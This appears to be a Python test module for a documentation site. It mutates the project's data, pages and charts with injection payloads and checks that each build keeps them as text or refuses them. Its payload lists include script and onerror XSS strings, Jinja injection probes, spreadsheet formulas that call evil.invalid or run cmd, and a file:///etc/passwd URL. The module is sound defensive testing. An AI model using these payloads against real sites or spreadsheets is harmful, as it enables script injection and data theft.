"""The hostile-input corpus: payloads, the fields they go into, and the mutated projects.

Every payload carries a marker (``hx<field>p<payload>x``, letters and digits only, so it
survives wherever text goes: attributes, ids, JSON, CSV, chart labels), so a finding
names the field and the payload that caused it.  test_hostile.py builds the mutated
copies with the real ``mkdocs build --strict`` and looks for the payloads in what was
written and in what Chromium makes of it.

Two projects:

* the **inert** project puts every payload into every text field that may hold any
  text (figures, series, points, sources, claims, glossary, front matter, the text a
  chart function writes): the build must succeed and every payload must stay text;
* the **refused** project puts payloads where text cannot be made inert (ids, keys;
  control, bidi and zero-width characters in ids and labels): the build must stop,
  naming ``file:line`` for each.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from pathlib import Path

import yaml

# -- payloads -------------------------------------------------------------------
# (name, template): ``{m}`` is the marker.  Each one attacks one way text can turn
# into markup, script or template code.

PAYLOADS: tuple[tuple[str, str], ...] = (
    ("script", '<script>alert("{m}")</script>'),
    ("img_attr_break", '"><img src=x onerror=alert("{m}")>'),
    ("svg_single_quote", "'><svg onload=alert('{m}')>"),
    ("script_end", '</script><script>alert("{m}")</script>'),
    ("javascript_url", 'javascript:alert("{m}")'),
    ("data_url", 'data:text/html,<script>alert("{m}")</script>'),
    ("jinja_expression", "{m}{{{{ 7*7 }}}}{m}"),
    ("jinja_statement", "{m}{{% raw %}}R{{% endraw %}}{{% if 1 %}}I{{% endif %}}{m}"),
    ("jinja_comment", "{m}{{# C #}}{m}"),
    ("textarea_end", '</textarea><img src=x onerror=alert("{m}")>'),
    ("template_end", '</template><img src=x onerror=alert("{m}")><template>'),
    ("backtick_attr_break", "`><img src=x onerror=alert(`{m}`)>"),
    ("unquoted_attr_break", " onmouseover=alert('{m}') {m}=1 x="),
    ("entity_double_unescape", '&lt;img src=x onerror=alert("{m}")&gt;&#60;svg onload=alert(1)&#62;'),
    ("markdown_link", "[{m}](javascript:alert(1)) ![{m}](x)"),
    ("style_url", "<style>*{{background:url(//evil.invalid/{m})}}</style> url(https://evil.invalid/{m})"),
    ("backslash_break", '\\"><img src=x onerror=alert("{m}")>\\'),
)

# Payloads that must appear verbatim wherever their field is shown as text: Jinja's
# syntax proves the text went through no template engine (``{{ 7*7 }}``, never 49).
VERBATIM_DIGIT_FREE = {"jinja_expression": '{m}{{ "seven" * 2 }}{m}'}
VERBATIM = {"jinja_expression": "{m}{{ 7*7 }}{m}",
            "jinja_statement": "{m}{% raw %}R{% endraw %}{% if 1 %}I{% endif %}{m}",
            "jinja_comment": "{m}{# C #}{m}"}
EVALUATED = {"jinja_expression": "{m}49{m}", "jinja_statement": "{m}RI{m}", "jinja_comment": "{m}{m}"}

# What starts a formula in a spreadsheet (OWASP, CSV injection): each text field of the
# inert project opens with one of these, in turn, so every CSV export meets them all.
CSV_TRIGGERS = ("=HYPERLINK(\"https://evil.invalid/?\"&A1,\"x\") ", "+1+cmd|' /C calc'!A0 ", "-2+3+cmd|' /C calc'!A0 ",
                "@SUM(1+1)*cmd|' /C calc'!A0 ", "\t=1+1 ", "\r=1+1 ")

# Digit-free (each digit written as a letter a-j), so that text under the rule against numbers typed
# by hand (macros/data/typed.py: glossary definitions) can carry markers too.
MARKER = re.compile(r"hx([a-j]+)p([a-j]+)x")
_DIGITS = str.maketrans("0123456789", "abcdefghij")
_LETTERS = str.maketrans("abcdefghij", "0123456789")


def marker(field_no: int, payload_no: int) -> str:
    return f"hx{str(field_no).translate(_DIGITS)}p{str(payload_no).translate(_DIGITS)}x"


def marker_numbers(mark: str) -> tuple[int, int]:
    """(field, payload) of a marker."""
    m = MARKER.fullmatch(mark)
    assert m, mark
    return int(m.group(1).translate(_LETTERS)), int(m.group(2).translate(_LETTERS))


# The same payloads without digits, for text under the rule against numbers typed by hand.
DIGIT_FREE = (("{{{{ 7*7 }}}}", '{{{{ "seven" * 2 }}}}'), ("alert(1)", "alert(one)"), ("&#60;", "&lt;"), ("&#62;", "&gt;"),
              ("{m}=1 ", "{m}=one "))


def hostile_text(field_no: int, lead: str = "", skip: tuple[str, ...] = (), digit_free: bool = False) -> str:
    """Every payload (but those in ``skip``), each with its own marker, after ``lead`` (a CSV trigger)."""
    out = []
    for i, (name, t) in enumerate(PAYLOADS):
        if name in skip:
            continue
        if digit_free:
            for old, new in DIGIT_FREE:
                t = t.replace(old, new)
        out.append(t.format(m=marker(field_no, i)))
    return lead + " ".join(out)


@dataclass
class Field:
    """One text field the inert project fills with every payload."""

    no: int
    kind: str      # figure, series, point, source, claim, glossary, front_matter, chart
    where: str     # e.g. data/stimulus.yml figures.ai_models.label
    text: str
    part: str = ""  # the mutated project it is in: data or pages


@dataclass
class Corpus:
    fields: list[Field] = field(default_factory=list)

    def add(self, kind: str, where: str, lead: str = "", *, payloads: bool = True, text: str | None = None,
            skip: tuple[str, ...] = (), digit_free: bool = False) -> str:
        no = len(self.fields)
        if text is None:
            text = hostile_text(no, lead, skip, digit_free) if payloads else lead
        self.fields.append(Field(no, kind, where, text))
        return text

    def combinations(self) -> int:
        """Payload x field combinations the corpus tries."""
        return sum(len(set(MARKER.findall(f.text))) for f in self.fields)

    def field_of(self, mark: str) -> Field:
        return self.fields[marker_numbers(mark)[0]]

    def payload_of(self, mark: str) -> str:
        return PAYLOADS[marker_numbers(mark)[1]][0]

    def kinds(self) -> list[str]:
        return sorted({f.kind for f in self.fields})


# -- the inert project ----------------------------------------------------------------

def _load(path: Path) -> dict:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def _dump(path: Path, doc: dict) -> None:
    text = yaml.safe_dump(doc, sort_keys=False, allow_unicode=True, width=10**6)
    if path.name == "sources.yml":
        # Dumping drops comments, and an undated source needs one saying why (macros/data/load.py).
        text = re.sub(r"(?m)^(  [^ #][^:]*:)\n", "\\1\n    # A maintainers' note the dump would drop.\n", text)
    path.write_text(text, encoding="utf-8")


def _trigger(n: int) -> str:
    return CSV_TRIGGERS[n % len(CSV_TRIGGERS)]


# The chart function the inert project rewrites: its title and description (the
# docstring), its axis title and labels, all from hostile text.
CHART = "equipment_share"
_CHART_HEAD = '''    """Japanese firms dominate coater/developers, but those are machines, not materials
    Bars of world market share: Tokyo Electron's and all Japanese firms' share of coater/developers
    in 2022, and Tokyo Electron's share of EUV track systems in 2020, with the article's figure,
    which it gives for materials, as a bar of its own.
    """'''
_CHART_ROWS = '    rows = [fact(d, d.fig(ref), name, share=axis_value(d.fig(ref)), group=NAMES["japan"])'
_CHART_AXIS = '    return fit(d, hbars(d, rows, "share", "World market share (%)", ("japan", "claim"), domain=[0, 100]))'


def make_inert(project: Path, part: str, c: Corpus | None = None) -> Corpus:
    """Fill every text field of one part of a copy of the project with every payload.

    Two parts, built apart, so that a leak in one cannot hide the other's (a payload that opens
    a <template> in the navigation swallows the rest of every page): ``data`` (figures, series,
    sources, claims, the charts and the glossary) and ``pages`` (a page's front matter, which
    every page shows in its navigation).
    ``c`` carries the markers on from the other part."""
    c = c if c is not None else Corpus()
    n = iter(range(len(c.fields), 10**6))
    if part == "data":
        _inert_data(project, c, n)
        _inert_glossary(project, c, n)
    else:
        assert part == "pages", part
        _inert_pages(project, c, n)
    for f in c.fields:
        f.part = f.part or part
    return c


def _inert_data(project: Path, c: Corpus, n) -> None:
    # Figures: the label and note of a figure shown in prose, in a chart and in the index,
    # and of the three the rewritten chart labels its bars with.
    stim = _load(project / "data/stimulus.yml")
    f = stim["figures"]["ai_models"]
    f["label"] = c.add("figure", "data/stimulus.yml figures.ai_models.label", _trigger(next(n)))
    f["note"] = c.add("figure", "data/stimulus.yml figures.ai_models.note", _trigger(next(n)))
    _dump(project / "data/stimulus.yml", stim)

    equip = _load(project / "data/equipment.yml")
    for key in ("coater_tel_share", "coater_japan_share", "euv_track_tel"):
        e = equip["figures"][key]
        e["label"] = c.add("chart", f"data/equipment.yml figures.{key}.label (a bar of {CHART})", _trigger(next(n)))
        e["note"] = c.add("figure", f"data/equipment.yml figures.{key}.note", _trigger(next(n)))
    _dump(project / "data/equipment.yml", equip)

    # Series: a category series (its point names label a chart) and a year series.
    risks = _load(project / "data/risks.yml")
    s = risks["series"]["robot_density"]
    s["label"] = c.add("series", "data/risks.yml series.robot_density.label", _trigger(next(n)))
    s["note"] = c.add("series", "data/risks.yml series.robot_density.note", _trigger(next(n)))
    for key in ("korea", "singapore"):
        p = s["points"][key]
        p["name"] = c.add("point", f"data/risks.yml series.robot_density.points.{key}.name", _trigger(next(n)))
        p["note"] = c.add("point", f"data/risks.yml series.robot_density.points.{key}.note", _trigger(next(n)))
    # A name that is all CSV trigger: a text cell that begins with '-' and looks like arithmetic.
    s["points"]["china"]["name"] = c.add("point", "data/risks.yml series.robot_density.points.china.name",
                                         "-1+2", payloads=False)
    _dump(project / "data/risks.yml", risks)

    hist = _load(project / "data/history.yml")
    s = hist["series"]["ic_share"]
    s["label"] = c.add("series", "data/history.yml series.ic_share.label", _trigger(next(n)))
    s["note"] = c.add("series", "data/history.yml series.ic_share.note", _trigger(next(n)))
    first = next(iter(s["points"]))
    s["points"][first]["note"] = c.add("point", f"data/history.yml series.ic_share.points.{first}.note",
                                       _trigger(next(n)))
    _dump(project / "data/history.yml", hist)

    # Sources: every text field; the url as hostile as an http(s) address can be.
    srcs = _load(project / "data/sources.yml")
    b = srcs["sources"]["bloomberg-2025-12-26"]
    for name in ("title", "publisher"):
        b[name] = c.add("source", f"data/sources.yml sources.bloomberg-2025-12-26.{name}", _trigger(next(n)))
    no = len(c.fields)
    b["url"] = c.add("source", "data/sources.yml sources.bloomberg-2025-12-26.url",
                     text=(f'https://example.org/{marker(no, 1)}?q="><img/src=x/onerror=alert("{marker(no, 1)}")>'
                           f"&r='><svg/onload=alert('{marker(no, 2)}')>#`><img/src=x/onerror=alert(`{marker(no, 11)}`)>"))
    _dump(project / "data/sources.yml", srcs)

    # Claims: every text field (the evidence keeps its figure tokens).
    claims = _load(project / "data/claims.yml")
    t = claims["claims"]["total"]
    for name in ("quote", "summary"):
        t[name] = c.add("claim", f"data/claims.yml claims.total.{name}", _trigger(next(n)))
    t["evidence"] = t["evidence"] + " " + c.add("claim", "data/claims.yml claims.total.evidence")
    _dump(project / "data/claims.yml", claims)

    # The text a chart function writes: title and description (its docstring), an axis
    # title, and bar labels from data labels (the equipment labels above).
    charts = project / "macros/charts/catalog.py"
    code = charts.read_text(encoding="utf-8")
    title = c.add("chart", f"macros/charts/catalog.py {CHART} title (docstring)")
    desc = c.add("chart", f"macros/charts/catalog.py {CHART} description (docstring)")
    # A backslash in a title is refused (Vega-Lite writes titles into expressions): see
    # the refused project.
    axis = c.add("chart", f"macros/charts/catalog.py {CHART} axis title", skip=("backslash_break",))
    for old in (_CHART_HEAD, _CHART_ROWS, _CHART_AXIS):
        assert code.count(old) == 1, f"macros/charts/catalog.py changed: {old[:60]!r}"
    code = code.replace(_CHART_HEAD, f'    r"""{title}\n    {desc}\n    """')
    code = code.replace(_CHART_ROWS, '    rows = [fact(d, d.fig(ref), d.fig(ref).label, share=axis_value(d.fig(ref)), '
                                     'group=NAMES["japan"])')
    code = code.replace(_CHART_AXIS, f'    return fit(d, hbars(d, rows, "share", {axis!r}, ("japan", "claim"), '
                                     'domain=[0, 100]))')
    charts.write_text(code, encoding="utf-8")


def _inert_glossary(project: Path, c: Corpus, n) -> None:
    # Glossary: definitions of terms the pages use.
    gloss = _load(project / "data/glossary.yml")
    for term in ("METI", "Rapidus"):
        # Digit-free: a definition is prose, where a typed number stops the build (macros/data/typed.py).
        gloss["terms"][term] = c.add("glossary", f"data/glossary.yml terms.{term}", digit_free=True)
    _dump(project / "data/glossary.yml", gloss)


def _inert_pages(project: Path, c: Corpus, n) -> None:
    # Front matter: a page's title (Material prints it in <title>, the header and the h1),
    # subtitle (the navigation) and description (<meta>).
    page = project / "docs/stimulus.md"
    text = page.read_text(encoding="utf-8")
    front, body = re.match(r"---\n(.*?)\n---\n(.*)", text, re.S).groups()
    meta = yaml.safe_load(front)
    for name in ("title", "subtitle", "description"):
        meta[name] = c.add("front_matter", f"docs/stimulus.md front matter {name}")
    page.write_text("---\n" + yaml.safe_dump(meta, sort_keys=False, allow_unicode=True, width=10**6)
                    + "---\n" + body, encoding="utf-8")



# -- the refused project ---------------------------------------------------------------
# Each case writes one hostile string where text cannot be made inert; the build must
# stop and report each at its own file:line.

@dataclass
class Refusal:
    name: str
    file: str
    line: int
    what: str        # the key or text the report must mention ('' when nothing can be asked)
    check: str       # the check this needs (named in an xfail when main lacks it)
    also: tuple[int, ...] = ()  # other lines that would say where just as well (the entry's)


# Main refuses these characters where they are written (yamlfile.refuse_invisible scans a file's
# text); written as YAML escapes ("\u202e", "\x07") they reach the parsed strings unseen.
ESCAPED = ("refusal of bidi/zero-width/control characters in parsed strings: written as YAML escapes "
           "(\"\\u202e\", \"\\x07\") they pass the check of the file's text")
BIDI = {"rlo_u202e": "\u202e", "rli_u2067": "\u2067", "lrm_u200e": "\u200e"}
ZERO_WIDTH = {"zwsp_u200b": "\u200b", "zwj_u200d": "\u200d", "bom_ufeff": "\ufeff"}
CONTROL = {"bell_x07": "\x07", "escape_x1b": "\x1b", "nul_x00": "\x00", "newline_end": "\n"}


def _q(s: str) -> str:
    """A YAML double-quoted scalar (escapes for control characters; libyaml reads \\uXXXX)."""
    out = []
    for ch in s:
        if ch in '"\\':
            out.append("\\" + ch)
        elif ord(ch) < 0x20 or 0x7f <= ord(ch) < 0xa0 or ch in "\u2028\u2029" or ord(ch) > 0x7e:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def make_refused(project: Path) -> list[Refusal]:
    """Add a topic file, sources and glossary terms whose ids and labels cannot be made inert."""
    cases: list[Refusal] = []
    topic = "data/hostile.yml"
    lines = ["figures:"]
    n = 0

    def fig_entry(key_text: str, label: str) -> list[str]:
        nonlocal n
        n += 1
        return [f"  {key_text}:", f"    label: {_q(label)}", f"    value: {n}", "    unit: count",
                "    as_of: 2025-12-26", "    sources: [bloomberg-2025-12-26]"]

    # Figure ids: every payload, then control, bidi and zero-width characters.
    for i, (pname, tmpl) in enumerate(PAYLOADS):
        key = tmpl.format(m=marker(900, i))
        lines += fig_entry(_q(key), f"Hostile id figure {i}")
        cases.append(Refusal(f"figure id: {pname}", topic, len(lines) - 5, "", "ID_RE"))
    for cname, ch in {**CONTROL, **BIDI, **ZERO_WIDTH}.items():
        lines += fig_entry(_q(f"ok_id{ch}" if cname != "newline_end" else "ok_id_nl\n"), f"Hostile id figure {cname}")
        cases.append(Refusal(f"figure id: {cname}", topic, len(lines) - 5, "",
                             "ids checked with fullmatch (a trailing newline passes '$')" if cname == "newline_end"
                             else "ID_RE"))
    # Figure labels with bidi, zero-width and control characters.
    for cname, ch in {**BIDI, **ZERO_WIDTH, "escape_x1b": "\x1b", "bell_x07": "\x07"}.items():
        lines += fig_entry(f"label_{cname}", f"Label {cname} evil{ch}txt.exe")
        cases.append(Refusal(f"figure label: {cname}", topic, len(lines) - 4, f"label_{cname}",
                             ESCAPED, (len(lines) - 5,)))

    # A category series: its keys are ids too (a point's id is <file>.<series>.<key>).
    lines += ["series:", "  cats:", f"    label: {_q('Hostile category series')}", "    unit: count",
              "    x: category", "    points:"]
    for i, (pname, tmpl) in enumerate(PAYLOADS):
        lines += [f"      {_q(tmpl.format(m=marker(901, i)))}:", f"        name: Point {i}", f"        value: {i + 1}",
                  "        as_of: 2025-12-26", "        sources: [bloomberg-2025-12-26]"]
        cases.append(Refusal(f"category point key: {pname}", topic, len(lines) - 4, "",
                             "category point keys checked like ids"))
    for cname, ch in {**CONTROL, **BIDI, **ZERO_WIDTH}.items():
        key = f"ok_key{ch}" if cname != "newline_end" else "ok_key_nl\n"
        lines += [f"      {_q(key)}:", f"        name: Point {cname}", "        value: 1",
                  "        as_of: 2025-12-26", "        sources: [bloomberg-2025-12-26]"]
        cases.append(Refusal(f"category point key: {cname}", topic, len(lines) - 4, "",
                             "category point keys checked like ids"))
    for cname, ch in {**BIDI, **ZERO_WIDTH}.items():
        lines += [f"      name_{cname}:", f"        name: {_q(f'Country{ch}name')}", "        value: 1",
                  "        as_of: 2025-12-26", "        sources: [bloomberg-2025-12-26]"]
        cases.append(Refusal(f"category point name: {cname}", topic, len(lines) - 3, f"name_{cname}",
                             ESCAPED,
                             (len(lines) - 4,)))
    # A series label.
    lines += ["  bidi_series:", "    label: " + _q("Series label \u202eevil"), "    unit: count", "    x: year",
              "    points:", "      2020: {value: 1, as_of: 2025-12-26, sources: [bloomberg-2025-12-26]}"]
    cases.append(Refusal("series label: rlo_u202e", topic, len(lines) - 4, "bidi_series", ESCAPED,
                         (len(lines) - 5,)))
    (project / topic).write_text("\n".join(lines) + "\n", encoding="utf-8")

    # Source ids, and a source url that is not http(s).
    path = project / "data/sources.yml"
    text = path.read_text(encoding="utf-8").rstrip("\n") + "\n"
    src_lines = text.split("\n")[:-1]
    for i, (pname, tmpl) in enumerate(PAYLOADS[:4]):
        src_lines += [f"  {_q(tmpl.format(m=marker(902, i)))}:", "    title: Hostile source", "    publisher: Nobody",
                      "    note: A test."]
        cases.append(Refusal(f"source id: {pname}", "data/sources.yml", len(src_lines) - 3, "", "ID_RE"))
    for i, url in enumerate(('javascript:alert("hx903p0x")', "data:text/html,<script>alert(1)</script>",
                             "vbscript:msgbox(1)", "//evil.invalid/x", "file:///etc/passwd",
                             "https://evil.invalid/\nx")):
        src_lines += [f"  bad-url-{i}:", "    title: Hostile url", "    publisher: Nobody", f"    url: {_q(url)}",
                      "    date: 2025-12-26"]
        cases.append(Refusal(f"source url: {url.split(':')[0] or url[:8]}", "data/sources.yml", len(src_lines) - 1,
                             f"sources.bad-url-{i}.url", "is_url (http/https only)"))
    path.write_text("\n".join(src_lines) + "\n", encoding="utf-8")

    # Claim ids.
    path = project / "data/claims.yml"
    cl = path.read_text(encoding="utf-8").rstrip("\n").split("\n")
    for i, (pname, tmpl) in enumerate(PAYLOADS[:4]):
        cl += [f"  {_q(tmpl.format(m=marker(904, i)))}:", "    quote: x", "    verdict: supported", "    summary: x",
               "    evidence: x", "    sources: [article]", "    page: stimulus"]
        cases.append(Refusal(f"claim id: {pname}", "data/claims.yml", len(cl) - 6, "", "ID_RE"))
    path.write_text("\n".join(cl) + "\n", encoding="utf-8")

    # Glossary terms (shown wherever the term is written) with bidi and zero-width characters.
    path = project / "data/glossary.yml"
    gl = path.read_text(encoding="utf-8").rstrip("\n").split("\n")
    for cname, ch in {"rlo_u202e": "\u202e", "zwsp_u200b": "\u200b", "bell_x07": "\x07"}.items():
        gl.append(f"  {_q(f'Term{ch}{cname}')}: A definition.")
        cases.append(Refusal(f"glossary term: {cname}", "data/glossary.yml", len(gl), "", ESCAPED))
    # A term the abbr extension cannot read (its pattern stops at a backslash): its line
    # would stay in every page as Markdown, and its definition would be published as HTML.
    gl.append("  " + _q('Hostile \\ term') + ": " + _q('<img src=x onerror=alert("hx905p0x")>'))
    cases.append(Refusal("glossary term: backslash", "data/glossary.yml", len(gl), "",
                         "a glossary term the abbr extension cannot read (a backslash) is refused"))
    gl.append("  Bidi definition: " + _q("A definition \u202e that reads backwards."))
    cases.append(Refusal("glossary definition: rlo_u202e", "data/glossary.yml", len(gl), "", ESCAPED))
    path.write_text("\n".join(gl) + "\n", encoding="utf-8")

    # The same characters written as themselves: one file each (a file stops at its first).
    for i, (cname, ch) in enumerate({"rlo_u202e": "\u202e", "zwsp_u200b": "\u200b", "escape_x1b": "\x1b",
                                     "lri_u2066": "\u2066"}.items()):
        rel = f"data/hostile_raw_{i}.yml"
        (project / rel).write_text(f"figures:\n  raw_{cname}:\n    label: Label {cname} evil{ch}txt.exe\n"
                                   "    value: 1\n    unit: count\n    as_of: 2025-12-26\n"
                                   "    sources: [bloomberg-2025-12-26]\n", encoding="utf-8")
        cases.append(Refusal(f"literal in a label: {cname}", rel, 3, "invisible character", "refuse_invisible"))
    return cases


# -- what a leak looks like ------------------------------------------------------------

@dataclass(frozen=True)
class Finding:
    where: str   # page (or file) and what was found
    mark: str    # the marker it carries ('' when none can be told)


# Elements a payload must never make (a <meta> or <link> carrying a payload in an attribute the
# page writes for it, a description, is text: only one that acts is a finding).
_ACTIVE = ("script", "style", "iframe", "object", "embed", "base", "form", "textarea")


def html_findings(html: str, where: str) -> list[Finding]:
    """What payloads made of a page, parsed as a browser parses it (html5lib)."""
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(html, "html5lib")
    out: list[Finding] = []

    def marks(text: str) -> list[str]:
        return [m.group(0) for m in MARKER.finditer(text)] or [""]

    for el in soup.find_all(True):
        attrs = {k: (" ".join(v) if isinstance(v, list) else v) for k, v in el.attrs.items()}
        own = " ".join(f"{k}={v}" for k, v in attrs.items())
        text = el.get_text() if el.name in _ACTIVE else ""
        if el.name in _ACTIVE and MARKER.search(own + text):
            out += [Finding(f"{where}: <{el.name}> element made by a payload", m) for m in marks(own + text)]
        if el.name in ("meta", "link") and ("http-equiv" in attrs or attrs.get("rel") in ("import", "stylesheet")
                                            or "href" in attrs and MARKER.search(attrs["href"])):
            if MARKER.search(own):
                out += [Finding(f"{where}: <{el.name}> made to act by a payload", m) for m in marks(own)]
        if el.name == "img" and attrs.get("src") == "x":
            out += [Finding(f"{where}: <img src=x>", m) for m in marks(own)]
        for k, v in attrs.items():
            if MARKER.search(k):
                out += [Finding(f"{where}: <{el.name}> attribute named {k!r}", m) for m in marks(k)]
            if k.startswith("on") and (MARKER.search(v) or "alert" in v):
                out += [Finding(f"{where}: <{el.name} {k}=...>", m) for m in marks(v)]
            if k in ("href", "src", "action", "formaction", "xlink:href", "data") and re.match(
                    r"\s*(javascript|data|vbscript):", v, re.I):
                out += [Finding(f"{where}: <{el.name} {k}={v[:40]!r}>", m) for m in marks(own + el.get_text())]
    out += evaluated_findings(html, where)
    return out


def evaluated_findings(text: str, where: str) -> list[Finding]:
    """Jinja syntax from data that a template engine evaluated (``{{ 7*7 }}`` became 49)."""
    out = []
    for mm in re.finditer(r"(hx[a-j]+p[a-j]+x)(49|RI|sevenseven|)(hx[a-j]+p[a-j]+x)", text):
        if mm.group(1) == mm.group(3):
            out.append(Finding(f"{where}: Jinja evaluated ({mm.group(0)!r})", mm.group(1)))
    return out


# -- charts that would load an address, or whose title Vega-Lite cannot carry -------------------------

CHART_CASES = (
    # (chart, line as written, line as mutated, text on the line the report must name, what it says)
    ("budget_comparison", "    return fit(d, bars)\n",
     '    return fit(d, alt.layer(bars, alt.Chart(alt.Data(values=rows)).mark_bar(href="https://evil.invalid/")))\n',
     "href=", "a link on a mark ('href')"),
    ("rapidus_support", 'x=alt.datum(top), y=alt.Y("label:N", sort=None, axis=None), text=f"{NOTE}:N")',
     'x=alt.datum(top), y=alt.Y("label:N", sort=None, axis=None), text=f"{NOTE}:N", href=alt.Href("label:N"))',
     "href=alt.Href", "a link on a mark ('href')"),
    ("jasm_ownership", '    bars = hbars(d, rows, "stake", "Stake in JASM (%)", ("other", "japan"), domain=[0, 100])',
     '    bars = alt.layer(hbars(d, rows, "stake", "Stake in JASM (%)", ("other", "japan"), domain=[0, 100]), '
     'alt.Chart(alt.Data(values=rows)).mark_image(url="https://evil.invalid/x.png"))',
     "mark_image", "an image mark"),
    ("target_arithmetic", '                        tips=(alt.Tooltip("basis:N", title="According to"),)))',
     '                        tips=(alt.Tooltip("basis:N", title="According to"),))'
     '.properties(background="url(https://evil.invalid/x.png)"))', "background=", "CSS url() in 'background'"),
    ("equipment_share", '    return fit(d, hbars(d, rows, "share", "World market share (%)", ("japan", "claim"), domain=[0, 100]))',
     '    return fit(d, hbars(d, rows, "share", r"Quoted \\" + datum.share + \\" share", ("japan", "claim"), '
     'domain=[0, 100]))', 'r"Quoted', "a title with a backslash"),
)


def make_page_refused(project: Path) -> list[Refusal]:
    """Front matter that cannot be inert, in a project whose data is valid (a build stops at its data's
    problems before it reads a page): a title with a bidi override, escaped and written as itself."""
    cases: list[Refusal] = []
    # Front matter: a title with a bidi override.
    page = project / "docs/index.md"
    text = page.read_text(encoding="utf-8")
    assert text.startswith("---\n")
    page.write_text("---\ntitle: " + _q("Overview \u202eevil") + "\n" + text[4:], encoding="utf-8")
    cases.append(Refusal("front matter title: rlo_u202e", "docs/index.md", 2, "", ESCAPED, (1,)))

    page = project / "docs/history.md"
    text = page.read_text(encoding="utf-8")
    page.write_text("---\ntitle: History \u202eevil\n" + text[4:], encoding="utf-8")
    cases.append(Refusal("literal in a front matter title: rlo_u202e", "docs/history.md", 2, "invisible character",
                         "refuse_invisible"))
    return cases


def make_chart_refused(project: Path) -> list[Refusal]:
    """Mutate one chart function per case; each must stop the build at the line that does it."""
    path = project / "macros/charts/catalog.py"
    code = path.read_text(encoding="utf-8")
    for _, old, new, _, _ in CHART_CASES:
        assert code.count(old) == 1, f"macros/charts/catalog.py changed: {old[:60]!r}"
        code = code.replace(old, new)
    path.write_text(code, encoding="utf-8")
    lines = code.split("\n")
    out = []
    for chart, _, _, needle, what in CHART_CASES:
        start = next(n for n, text in enumerate(lines, 1) if text.startswith(f"def {chart}("))
        line = next(n for n, text in enumerate(lines, 1) if n > start and needle in text)
        out.append(Refusal(f"chart {chart}: {what}", "macros/charts/catalog.py", line, what, "macros/charts/catalog.py checks"))
    return out
